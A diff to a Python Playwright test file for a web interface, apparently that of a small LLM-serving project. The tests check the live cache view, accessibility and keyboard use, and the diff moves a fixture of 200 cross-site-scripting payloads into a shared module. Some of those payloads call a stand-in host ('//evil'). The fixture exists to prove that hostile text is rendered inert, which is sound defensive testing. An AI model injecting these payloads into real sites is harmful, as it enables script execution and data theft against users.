@@ -2,9 +2,9 @@
 
 import json
 import re
-import shutil
 import threading
 from collections.abc import Iterator
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -13,57 +13,7 @@ import pytest
 from tests.deadlines import scaled
 from tests.http_server import Server, client, serving
 from tests.live_numbers import counts_of, mean_ms
-
-sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-AXE = Path(__file__).parents[2] / "scripts" / "node" / "node_modules" / "axe-core" / "axe.min.js"
-pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
-HOSTILE = [
-    f"{opening}{code}{closing}"
-    for code in ("window.pwned=1", "fetch('//evil')", "alert(1)", "document.title='pwned'", "location='//evil'")
-    for opening, closing in (
-        ("<script>", "</script>"),
-        ('<img src=x onerror="', '">'),
-        ("<svg onload='", "'>"),
-        ('"><iframe srcdoc="<script>', '</script>">'),
-        ("javascript:", ""),
-        ("</span><script>", "</script><span>"),
-        ("<a href='javascript:", "'>click</a>"),
-        ("```html\n<script>", "</script>\n```"),
-        ("<body onpageshow=", ">"),
-        ("<details open ontoggle=", ">"),
-        ("<math><mtext><style><img title='</style><img src onerror=", "'>"),
-        ("{{constructor.constructor('", "')()}}"),
-        ("${", "}"),
-        ("&lt;script&gt;", "&lt;/script&gt;"),
-        ("<object data='data:text/html,<script>", "</script>'>"),
-        ("<base href='//evil/'><script src='", "'></script>"),
-        ("<meta http-equiv=refresh content='0;url=javascript:", "'>"),
-        ("<form action='javascript:", "'><button autofocus>"),
-        ("\u2028</title><script>", "</script>"),
-        ("<input autofocus onfocus=", ">"),
-        ("<video><source onerror=", ">"),
-        ("<template><script>", "</script></template>"),
-        ("<!--><script>", "</script>-->"),
-        ("<x onclick=", " style=position:fixed;inset:0>"),
-        ("<style>@import'//evil';", "</style>"),
-        ("<link rel=stylesheet href='//evil?", "'>"),
-        ("<embed src='javascript:", "'>"),
-        ("<marquee onstart=", ">"),
-        ("<button popovertarget=x>", "</button><p popover id=x onbeforetoggle=alert(1)>"),
-        ("<select autofocus onfocus=", ">"),
-        ("\x00<script>", "</script>"),
-        ("<ScRiPt>", "</sCrIpT>"),
-        ("<svg><animate onbegin=", " attributeName=x>"),
-        ("<noscript><p title='</noscript><img src=x onerror=", "'>"),
-        ("<textarea></textarea><script>", "</script>"),
-        ("<isindex type=image src=1 onerror=", ">"),
-        ("%3Cscript%3E", "%3C/script%3E"),
-        ("<iframe src='data:text/html,<script>", "</script>'>"),
-        ("<div contenteditable autofocus onfocusin=", ">"),
-        ("<dialog open onclose=", "><form method=dialog>"),
-    )
-]
+from tests.pages import HOSTILE, check_with_axe, opened
 
 
 @pytest.fixture(scope="module")
@@ -72,43 +22,15 @@ def server() -> Iterator[Server]:
         yield running
 
 
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    with sync_api.sync_playwright() as driver:
-        running = driver.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
-        yield running
-        running.close()
-
-
 @pytest.fixture
 def page(browser: Any, server: Server) -> Iterator[Any]:
-    """The page, open. What it says on its console as an error fails the test."""
-    context = browser.new_context(viewport={"width": 1100, "height": 900})
-    context.set_default_timeout(scaled(30_000))
-    opened = context.new_page()
-    faults: list[str] = []
-    opened.on("pageerror", lambda error: faults.append(str(error)))
-    opened.on("console", lambda said: faults.append(said.text) if is_fault(said) else None)
-    opened.on("dialog", lambda dialog: dismiss(dialog, faults))
-    opened.goto(server.url)
-    opened.wait_for_selector("#served:has-text('context of')")
-    yield opened
-    context.close()
-    assert not faults
-
-
-def dismiss(dialog: Any, noted: list[str]) -> None:
-    noted.append("a dialog")
-    dialog.dismiss()
-
-
-def is_fault(said: Any) -> bool:
-    """Whether a message on the console is an error of the page; the browser writes down refusals, too."""
-    return said.type == "error" and "status of 400" not in said.text
+    with opened(browser, server.url) as found:
+        found.wait_for_selector("#served:has-text('context of')")
+        yield found
 
 
 def long_requests(server: Server, count: int) -> list[threading.Thread]:
-    """Requests that run until they are aborted, or their 1,500 tokens are there."""
+    """Requests, by the ids cmpl-r0 and so on, that run until they are aborted, or their 1,500 tokens are there."""
     body = {"prompt": "Once upon a time", "max_tokens": 1500, "ignore_eos": True}
 
     def ask(number: int) -> None:
@@ -130,6 +52,9 @@ def test_from_an_empty_page_to_why_a_request_waits_in_three_clicks(page: Any, se
     assert "prompt" in page.inner_text("#why-facts")
     page.click("#why button")
     assert page.is_hidden("#why")
+    with client(server) as http:
+        for number in range(len(asked)):
+            http.delete(f"/v1/requests/cmpl-r{number}")
     for thread in asked:
         thread.join(scaled(60))
     page.wait_for_selector("#live p:has-text('no request is live')")
@@ -183,6 +108,51 @@ def test_a_conversation_has_what_its_turns_found(page: Any, server: Server) -> N
     assert row[4] == f"{100 * found / int(row[2]):.0f} %"
 
 
+def test_a_block_says_who_has_it_its_hash_and_where_else_that_is(page: Any, server: Server) -> None:
+    page.click("text=Live")
+    page.wait_for_selector(".engine .legend")
+    prompt = "Once there was a small red fox who wanted to see what is behind the hill, and went. " * 3
+    with client(server) as http:
+        http.post("/v1/completions", json={"prompt": prompt, "max_tokens": 1}).raise_for_status()
+    page.wait_for_selector(".legend .evictable:not(:has-text(': 0'))")
+    page.wait_for_function("() => [...engines.values()][0].kinds.includes(1)")
+    block = page.evaluate("[...engines.values()][0].kinds.indexOf(1)")
+    page.focus(".blocks")
+    page.keyboard.press("ArrowRight")
+    for _ in range(block - 1):
+        page.keyboard.press("ArrowRight")
+    said = page.wait_for_selector(f".block:has-text('block {block}: 0 references, a later prompt'):has-text('; hash ')")
+    with client(server) as http:
+        found = http.get(f"/v1/live/blocks/{block}").json()
+    assert said.inner_text().endswith(f"; hash {found['hash']}")
+
+
+def test_the_host_has_a_map_of_its_own(page: Any) -> None:
+    page.click("text=Live")
+    page.wait_for_selector(".engine .legend")
+    page.evaluate(
+        """() => {
+          watching.abort()
+          const [engine] = engines.values(), {head} = engine
+          Object.assign(head, {first_host_block: 4, disk_bytes: 3 << 20})
+          Object.assign(head.counts, {num_host_blocks: 3, num_used_host_blocks: 1, num_stored_keys: 9})
+          engine.blocks = new Uint8Array([0, 1, 2, 0, 1, 128, 0])
+          engine.requests.set("r", {id: "r", state: "swapped", reason: null, table: [1, 4], since: 0, host_blocks: 1})
+          drawEngine(engine)
+        }"""
+    )
+    page.wait_for_selector(".legend li:text-is('held on the host: 1')")
+    page.wait_for_selector(
+        ".block:text-is('on the host: 1 of 3 blocks held, 1 cached · on disk: 9 blocks and states, 3 MiB')"
+    )
+    host = page.locator(".blocks >> nth=1")
+    assert "free, but cached: 1" in host.get_attribute("aria-label")
+    host.focus()
+    page.keyboard.press("ArrowRight")
+    text = page.inner_text(".block >> nth=1")
+    assert text.startswith("block 0 on the host: 1 reference, no prompt can find it; tokens 16 to 31 of r")
+
+
 def test_the_step_says_what_it_drafts_and_moves(page: Any) -> None:
     page.click("text=Live")
     page.wait_for_selector(".step")
@@ -194,9 +164,7 @@ def test_the_step_says_what_it_drafts_and_moves(page: Any) -> None:
     text = page.inner_text("p:has-text('step 7:')")
     assert text.startswith("step 7: 4 sequences, 6 tokens of outputs, up to 6 drafts, 8 of prompts, 2 blocks copied")
     assert text.endswith("3 blocks to the host; of the latest drafts 3 were accepted, 1 refused")
-    widths = page.evaluate(
-        "[...document.querySelectorAll('.step:not(.moves):not(.tier) > div')].map(d => d.style.flexGrow)"
-    )
+    widths = page.evaluate("[...document.querySelectorAll('.step:not(.moves) > div')].map(d => d.style.flexGrow)")
     assert widths == ["6", "4.5", "1.5", "0", "8"]
 
 
@@ -239,14 +207,13 @@ def test_the_keyboard_is_enough(page: Any) -> None:
     assert page.evaluate("document.activeElement.id") == "tab-chat"
 
 
-@pytest.mark.skipif(not AXE.exists(), reason="axe-core is not installed: make node-client")
-@pytest.mark.parametrize("tab", ["Chat", "Live", "Model"])
-def test_a_screen_reader_finds_its_way(page: Any, tab: str) -> None:
-    page.click(f"text={tab} >> nth=0")
-    page.wait_for_timeout(100)
-    page.evaluate(AXE.read_text())
-    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
-    assert [(each["id"], [node["html"] for node in each["nodes"]]) for each in found["violations"]] == []
+def test_a_screen_reader_finds_its_way(page: Any) -> None:
+    for tab in ("Chat", "Live", "Model"):
+        page.click(f"text={tab} >> nth=0")
+        page.wait_for_selector(
+            {"Live": ".engine .legend"}.get(tab, "#gauge" if tab == "Chat" else "#command"), state="attached"
+        )
+        check_with_axe(page)
 
 
 def hostile_live() -> bytes:
@@ -265,6 +232,10 @@ def hostile_live() -> bytes:
     return b"event: snapshot\ndata: " + json.dumps({"time": 1.0, "engines": {"0": engine}}).encode() + b"\n\n"
 
 
+def fulfil(body: Any, route: Any) -> None:
+    route.fulfill(body=json.dumps(body))
+
+
 SAID = """text => [{role: "user", content: text}, {
     role: "assistant", content: text, reasoning: text, tool_calls: [{function: {name: text, arguments: text}}]}]"""
 PAGE_JS = Path(__file__).parents[2] / "vllm_lite" / "server" / "pages" / "page.js"
@@ -272,40 +243,35 @@ PAGE_JS = Path(__file__).parents[2] / "vllm_lite" / "server" / "pages" / "page.j
 
 def test_hostile_texts_stay_texts(browser: Any, server: Server) -> None:
     assert len(HOSTILE) == 200
-    context = browser.new_context()
-    context.set_default_timeout(scaled(30_000))
-    page = context.new_page()
-    asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
-    page.on("dialog", lambda dialog: dismiss(dialog, asked))
     calls = [{"index": 0, "function": {"name": HOSTILE[3], "arguments": HOSTILE[4]}}]
     said = {"content": HOSTILE[1], "reasoning": HOSTILE[2], "tool_calls": calls}
     event = json.dumps({"choices": [{"delta": said}]})
-
-    def answer(route: Any) -> None:
-        route.fulfill(body=f"data: {event}\n\ndata: [DONE]\n\n", content_type="text/event-stream")
-
-    def refuse(route: Any) -> None:
-        route.fulfill(status=400, body=json.dumps({"error": {"message": HOSTILE[1]}}))
-
-    page.route("**/v1/chat/completions", answer)
-    page.route("**/v1/live", lambda route: route.fulfill(body=hostile_live(), content_type="text/event-stream"))
-    page.route("**/v1/requests/**", refuse)
     card = {"id": HOSTILE[0], "max_model_len": 9, "root": HOSTILE[1], "chat_template": HOSTILE[2]}
-    page.route("**/v1/models", lambda route: route.fulfill(body=json.dumps({"data": [card]})))
-    page.goto(server.url)
-    page.evaluate(f"texts => {{ messages = texts.flatMap({SAID}); draw() }}", HOSTILE)
-    page.fill("#question", HOSTILE[0])
-    page.press("#question", "Enter")
-    page.wait_for_selector("#messages article >> nth=401", state="attached")
-    page.click("text=Live")
-    page.wait_for_selector("tbody tr >> nth=199")
-    page.click("tbody tr button >> nth=0")
-    page.click("#why button")
-    page.click("text=Model")
-    assert page.evaluate("window.pwned") is None
-    assert page.title() == "vllm_lite"
-    assert page.evaluate("document.scripts.length") == 1
-    assert [url for url in asked if not url.startswith((server.url, "data:"))] == []
-    assert page.url == f"{server.url}/"
-    context.close()
+    block = {"block": 1, "references": 1, "hash": HOSTILE[5], "group": 0, "tiers": HOSTILE[6:9]}
+    settings = {"command": HOSTILE[9], "kernels": {HOSTILE[10]: HOSTILE[11]}, "computed": {HOSTILE[12]: HOSTILE[13]}}
+    bodies = {"v1/models": {"data": [card]}, "v1/live/blocks/**": block, "v1/live/settings": settings}
+
+    def prepare(page: Any) -> None:
+        stream = {"content_type": "text/event-stream"}
+        answered = f"data: {event}\n\ndata: [DONE]\n\n"
+        page.route("**/v1/chat/completions", lambda route: route.fulfill(body=answered, **stream))
+        page.route("**/v1/live", lambda route: route.fulfill(body=hostile_live(), **stream))
+        refusal = json.dumps({"error": {"message": HOSTILE[1]}})
+        page.route("**/v1/requests/**", lambda route: route.fulfill(status=400, body=refusal))
+        for path, body in bodies.items():
+            page.route(f"**/{path}", partial(fulfil, body))
+
+    with opened(browser, server.url, prepare=prepare) as page:
+        page.evaluate(f"texts => {{ messages = texts.flatMap({SAID}); draw() }}", HOSTILE)
+        page.fill("#question", HOSTILE[0])
+        page.press("#question", "Enter")
+        page.wait_for_selector("#messages article >> nth=401", state="attached")
+        page.click("text=Live")
+        page.wait_for_selector("tbody tr >> nth=199")
+        page.hover(".blocks >> nth=0", position={"x": 2, "y": 2})
+        page.wait_for_selector(".block:has-text('; hash ')")
+        page.click("tbody tr button >> nth=0")
+        page.click("#why button")
+        page.click("text=Model")
+        page.wait_for_selector("#command:has-text('window')", state="attached")
+        assert page.title() == "vllm_lite"
